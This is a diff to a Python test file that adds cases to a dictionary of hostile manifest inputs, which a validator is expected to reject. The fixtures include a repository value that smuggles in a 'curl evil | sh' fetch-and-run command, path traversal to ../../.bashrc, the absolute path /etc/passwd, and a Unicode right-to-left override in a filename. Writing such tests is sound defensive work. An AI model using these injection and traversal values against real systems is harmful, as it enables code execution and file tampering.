@@ -226,6 +226,12 @@ HOSTILE: dict[str, tuple[Change, str, str]] = {
     "odd name": (put("read\u202eme.md", "x"), "name", "no plain name"),
     "path in the manifest": (edit("manifest.json", files={"../../.bashrc": "0" * 64}), "name", "leads out"),
     "absolute path in the manifest": (edit("manifest.json", files={"/etc/passwd": "0" * 64}), "name", "absolute path"),
+    "commands for a repository": (
+        edit("manifest.json", repository="a/b; curl evil | sh"),
+        "name",
+        "is no repository's name",
+    ),
+    "repository that is a list": (edit("manifest.json", repository=["a/b"]), "name", "is no repository's name"),
     "no hash of the backbone": (edit("manifest.json", backbone={}), "manifest", "which weights the backbone had"),
     "another backbone than the config's": (
         replaced("manifest.json", '"name": "lexaug-tests/tiny-encoder"', '"name": "evil/encoder"'),
